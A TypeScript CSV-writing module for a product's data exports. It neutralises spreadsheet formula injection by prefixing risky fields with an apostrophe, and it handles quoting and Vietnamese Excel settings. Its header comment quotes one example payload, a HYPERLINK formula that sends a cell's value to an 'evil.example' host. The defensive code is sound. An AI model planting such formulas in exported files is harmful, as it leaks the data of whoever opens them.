/**
 * The one writer of every CSV field the product emits — the open-data API and the bulk
 * downloads, the import template, the audit log (issue #13, item 6).
 *
 * A spreadsheet runs a field that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
 * before one) as a formula: a comment such as `=HYPERLINK("http://evil.example/?x="&B2,"…")`
 * typed by one official would run on another's machine when the export is opened (OWASP, CSV
 * injection). Such a field gets a leading apostrophe, which spreadsheets show as text and
 * never evaluate. Numbers — and text that is only a number, such as "-3,5" — are left as they
 * are, so the figures stay numbers.
 *
 * XLSX cells need no such care: ExcelJS stores a string as a shared string, never as a formula
 * (lib/export/csv.test.ts checks the workbooks the product writes).
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?\d+(?:[.,]\d+)*(?:[eE][-+]?\d+)?$/;
const NEEDS_QUOTES = /[",;\r\n]/;
/** With ";" between fields a decimal comma needs no quotes: "95,15" stays a number to Excel in Vietnamese. */
const NEEDS_QUOTES_SEMICOLON = /[";\r\n]/;

/** The text itself, or with a leading apostrophe if a spreadsheet would run it as a formula. */
export function defuseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** One field: empty for null, defused, quoted (RFC 4180) when it holds a quote, separator or line break. */
export function csvField(value: string | number | boolean | null | undefined, delimiter: "," | ";" = ","): string {
  if (value === null || value === undefined) return "";
  const text = typeof value === "string" ? defuseFormula(value) : String(value);
  const needsQuotes = delimiter === ";" ? NEEDS_QUOTES_SEMICOLON : NEEDS_QUOTES;
  return needsQuotes.test(text) || text !== text.trim() ? `"${text.replace(/"/g, '""')}"` : text;
}

export interface CsvOptions {
  /** Line ending: CRLF (RFC 4180, the default) or LF. */
  eol?: "\r\n" | "\n";
  /** A UTF-8 byte-order mark first, so Excel reads Vietnamese correctly (default true). */
  bom?: boolean;
  /** Field separator: "," (default), or ";" where the decimal mark is a comma (Excel in Vietnamese). */
  delimiter?: "," | ";";
}

/** A whole document: the header, then one line per row, each line ended. */
export function csvDocument(header: readonly string[], rows: Iterable<readonly (string | number | boolean | null | undefined)[]>, options: CsvOptions = {}): string {
  const eol = options.eol ?? "\r\n";
  const sep = options.delimiter ?? ",";
  const field = (v: string | number | boolean | null | undefined) => csvField(v, sep);
  const lines = [header.map(field).join(sep)];
  for (const row of rows) lines.push(row.map(field).join(sep));
  return `${options.bom === false ? "" : "\uFEFF"}${lines.join(eol)}${eol}`;
}
